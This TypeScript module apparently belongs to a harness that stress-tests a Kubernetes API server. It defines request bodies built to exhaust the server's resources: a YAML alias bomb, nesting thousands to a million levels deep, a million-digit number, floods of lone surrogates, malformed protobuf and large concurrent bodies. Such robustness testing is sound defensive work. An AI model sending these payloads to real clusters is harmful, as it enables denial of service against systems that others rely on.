import { CONFIG_MAPS, YAML, configMap, upTo, type Attack } from "../target.ts";

const REVIEW = "/apis/authentication.k8s.io/v1/selfsubjectreviews";
const POST = { method: "POST", type: "application/json" } as const;

const keys = (count: number): string =>
  upTo(count)
    .map((n) => `k${n}: v`)
    .join("\n");

export const bodies: readonly Attack[] = [
  {
    title: "an account without rights sends YAML with 40,000 distinct keys",
    run: (t) => t.repeat(4, 2, () => ({ ...POST, path: REVIEW, as: "powerless", type: YAML, body: keys(40_000) })),
  },
  {
    title: "a ConfigMap of 100,000 keys comes as YAML",
    run: (t) => {
      const body = `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: wide}\ndata:\n${keys(100_000).replaceAll(/^/gm, "  ")}`;
      return t.repeat(4, 2, () => ({ ...POST, path: `${CONFIG_MAPS}?dryRun=All`, type: YAML, body }));
    },
  },
  {
    title: "a YAML flow sequence of 2 MB is sent",
    run: (t) => {
      const body = `a: [${"a,".repeat(1_000_000)}a]`;
      return t.repeat(6, 3, () => ({ ...POST, path: REVIEW, as: "powerless", type: YAML, body }));
    },
  },
  {
    title: "a YAML document nests 100,000 flow sequences",
    run: (t) =>
      t.repeat(6, 2, () => ({ ...POST, path: REVIEW, as: "powerless", type: YAML, body: `a: ${"[".repeat(100_000)}` })),
  },
  {
    title: "YAML aliases multiply to a billion strings",
    run: (t) => {
      const levels = upTo(9).map((n) => `l${n + 1}: &l${n + 1} [${`*l${n},`.repeat(9)}*l${n}]`);
      const body = ["l0: &l0 [x,x,x,x,x,x,x,x,x,x]", ...levels].join("\n");
      return t.repeat(6, 2, () => ({ ...POST, path: REVIEW, as: "powerless", type: YAML, body }));
    },
  },
  {
    title: "YAML repeats one key 50,000 times, with merge keys",
    run: (t) => {
      const body = `base: &b {x: 1}\n${"same: {<<: *b}\n".repeat(15_000)}`;
      return t.repeat(4, 2, () => ({ ...POST, path: REVIEW, as: "powerless", type: YAML, body }));
    },
  },
  {
    title: "JSON nests a million arrays",
    run: (t) => t.repeat(10, 5, () => ({ ...POST, path: REVIEW, as: "powerless", body: "[".repeat(1_000_000) })),
  },
  {
    title: "JSON nests 9,000 objects in an unknown field of a ConfigMap",
    run: (t) => {
      const deep = `${'{"a":'.repeat(9_000)}1${"}".repeat(9_000)}`;
      const body = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"deep"},"zzz":${deep}}`;
      return t.repeat(20, 5, () => ({ ...POST, path: `${CONFIG_MAPS}?dryRun=All&fieldValidation=Strict`, body }));
    },
  },
  {
    title: "the response must name 100,000 unknown fields",
    run: (t) => {
      const unknown = upTo(100_000).map((n) => `"unknownfield${n}":1`);
      const body = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"strict"},${unknown.join(",")}}`;
      return t.repeat(4, 2, () => ({ ...POST, path: `${CONFIG_MAPS}?dryRun=All&fieldValidation=Strict`, body }));
    },
  },
  {
    title: "the response must name 100,000 invalid keys",
    run: (t) => {
      const data = upTo(100_000).map((n) => `"not/valid/${n}":"v"`);
      const body = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"invalid"},"data":{${data.join(",")}}}`;
      return t.repeat(4, 2, () => ({ ...POST, path: `${CONFIG_MAPS}?dryRun=All`, body }));
    },
  },
  {
    title: "the response must name 100,000 duplicate keys",
    run: (t) => {
      const data = `${'"same":"v",'.repeat(100_000)}"same":"v"`;
      const body = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"twice"},"data":{${data}}}`;
      return t.repeat(4, 2, () => ({ ...POST, path: `${CONFIG_MAPS}?dryRun=All&fieldValidation=Strict`, body }));
    },
  },
  {
    title: "a number has a million digits",
    run: (t) => {
      const body = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"number","generation":${"9".repeat(1_000_000)}}}`;
      return t.repeat(10, 5, () => ({ ...POST, path: `${CONFIG_MAPS}?dryRun=All`, body }));
    },
  },
  {
    title: "2.9 MB of lone surrogates are written as escapes",
    run: (t) => {
      const body = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"lone"},"data":{"a":"${"\\ud800".repeat(480_000)}"}}`;
      return t.repeat(6, 3, () => ({ ...POST, path: `${CONFIG_MAPS}?dryRun=All`, body }));
    },
  },
  {
    title: "bodies of 3 MB come twenty at once",
    run: (t) => {
      const body = JSON.stringify(configMap("large", { a: "x".repeat(3_000_000) }));
      return t.repeat(40, 20, () => ({ ...POST, path: `${CONFIG_MAPS}?dryRun=All`, body }));
    },
  },
  {
    title: "protobuf announces more than it has, and nests without end",
    run: (t) => {
      const head = Buffer.from([0x6b, 0x38, 0x73, 0x00]);
      const nested = Buffer.concat([head, Buffer.alloc(1_000_000, Buffer.from([0x0a, 0xff, 0xff, 0x3f]))]);
      const type = "application/vnd.kubernetes.protobuf";
      return t.repeat(20, 5, () => ({ ...POST, path: "/api/v1/namespaces/default/pods", type, body: nested }));
    },
  },
  {
    title: "a pod has 5,000 containers with 20 wrong fields each",
    run: (t) => {
      const containers = upTo(5_000).map((n) => ({
        name: `c${n}`,
        image: "",
        ports: [{ containerPort: -1 }],
        env: [{ name: "" }],
      }));
      const pod = { apiVersion: "v1", kind: "Pod", metadata: { name: "many" }, spec: { containers } };
      const body = JSON.stringify(pod);
      return t.repeat(6, 3, () => ({ ...POST, path: "/api/v1/namespaces/default/pods?dryRun=All", body }));
    },
  },
  {
    title: "an object has 20,000 owner references",
    run: (t) => {
      const ownerReferences = upTo(20_000).map((n) => ({
        apiVersion: "v1",
        kind: "ConfigMap",
        name: `o${n}`,
        uid: `u${n}`,
      }));
      const body = JSON.stringify({ ...configMap("owned"), metadata: { name: "owned", ownerReferences } });
      return t.repeat(6, 3, () => ({ ...POST, path: `${CONFIG_MAPS}?dryRun=All`, body }));
    },
  },
];
